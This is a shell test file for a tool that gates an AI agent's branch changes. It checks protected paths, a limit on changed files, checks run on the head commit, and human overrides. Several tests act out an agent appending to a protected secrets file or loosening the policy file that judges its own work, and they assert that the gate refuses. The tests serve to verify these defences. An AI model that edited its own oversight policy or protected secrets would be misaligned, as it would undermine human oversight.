ci_repo() {
	make_repo repo
	mkdir -p repo/secrets
	printf 'key\n' >repo/secrets/key
	git -C repo add secrets
	git -C repo commit -q -m "secrets"
	set_policy "$1"
	git -C repo branch agent/x
}

on_branch() {
	git -C repo checkout -q "$1"
}

test_ci_mode_clean_change_passes() {
	ci_repo '{"protected_paths": ["secrets"], "max_changed_files": 1}'
	on_branch agent/x
	printf 'more\n' >>repo/README
	git -C repo commit -q -am "docs"
	on_branch main
	printf 'main moves\n' >repo/other
	git -C repo add other
	git -C repo commit -q -m "main work"
	ok "gate --base --head" -C repo gate --base main --head agent/x --json
	assert_eq "$(json_get "$out" 'j["passed"]')" "True" "passed"
	assert_eq "$(json_get "$out" 'j["merge_base"]')" "$(git -C repo merge-base main agent/x)" "from the merge base"
	assert_eq "$(json_get "$out" 'j["tree"]')" "$(git -C repo rev-parse 'agent/x^{tree}')" "head's tree"
	assert_eq "$(rule_field "$out" max_changed_files message)" "1 file changed, within the limit of 1" "main's own work not counted"
	on_branch agent/x
	ok "--head defaults to HEAD" -C repo gate --base main
}

test_ci_mode_protected_change_fails() {
	ci_repo '{"protected_paths": ["secrets"]}'
	on_branch agent/x
	printf 'leak\n' >>repo/secrets/key
	git -C repo commit -q -am "leak"
	on_branch main
	expect_rc 1 "protected change" -C repo gate --base main --head agent/x --json
	assert_eq "$(rule_field "$out" protected_paths paths)" "['secrets/key']" "paths"
}

test_ci_mode_judges_by_the_base_policy_when_head_loosens_it() {
	ci_repo '{"protected_paths": ["secrets"]}'
	on_branch agent/x
	printf '{}\n' >repo/.agenttask/policy.json
	printf 'leak\n' >>repo/secrets/key
	git -C repo commit -q -am "loosen and leak"
	expect_rc 1 "base's policy judges" -C repo gate --base main --head agent/x --json
	assert_eq "$(rule_field "$out" protected_paths paths)" "['.agenttask/policy.json', 'secrets/key']" "still protected, and the loosening itself is a protected change"
	assert_eq "$(json_get "$out" 'j["policy"]')" "main:.agenttask/policy.json" "policy source"
}

test_ci_mode_runs_checks_on_head_in_a_removed_worktree() {
	ci_repo '{"checks": [{"name": "head", "run": ["sh", "-c", "cat README; git rev-parse HEAD"]}]}'
	on_branch agent/x
	printf 'from head\n' >>repo/README
	git -C repo commit -q -am "head change"
	on_branch main
	ok "checks" -C repo gate --base main --head agent/x --json
	assert_contains "$(rule_field "$out" head output)" "from head" "head's files"
	assert_contains "$(rule_field "$out" head output)" "$(git -C repo rev-parse agent/x)" "HEAD detached at head"
	assert_eq "$(scratch_left | tr '\n' ' ')" "0 0 " "worktree removed"
	assert_eq "$(git -C repo worktree list --porcelain | grep -c '^worktree ')" "1" "only the main worktree"
	assert_empty "the checkout is untouched" git -C repo status --porcelain
}

test_ci_mode_in_a_clone() {
	ci_repo '{"protected_paths": ["secrets"]}'
	on_branch agent/x
	printf 'leak\n' >>repo/secrets/key
	git -C repo commit -q -am "leak"
	on_branch main
	git clone -q repo clone
	git -C clone checkout -q agent/x
	expect_rc 1 "remote-tracking base" -C clone gate --base origin/main --head HEAD
	assert_contains "$out" "origin/main:.agenttask/policy.json" "policy named by the base given"
}

test_a_task_cannot_loosen_the_policy_for_the_tasks_after_it() {
	# What: a task whose only change loosens .agenttask/policy.json.
	# Must: the gate fails on the policy's own directory, and accept refuses
	# unless a person overrides it.
	policy_repo '{"max_changed_files": 100}'
	agent_sh t 'printf "%s\n" "{\"allow_binary\": true}" >.agenttask/policy.json'
	expect_rc 1 "a policy edit by a task is a protected change" -C repo gate t --json
	assert_eq "$(rule_field "$out" protected_paths paths)" "['.agenttask/policy.json']" "names the policy file"
	expect_rc 1 "accept refuses" -C repo accept t
	assert_eq "$(git -C repo show main:.agenttask/policy.json)" '{"max_changed_files": 100}' "main's policy unchanged"
	ok "accept with a person's override" -C repo accept t --override "policy change reviewed"
	assert_eq "$(git -C repo show main:.agenttask/policy.json)" '{"allow_binary": true}' "the overridden change is in"
}

run_tests
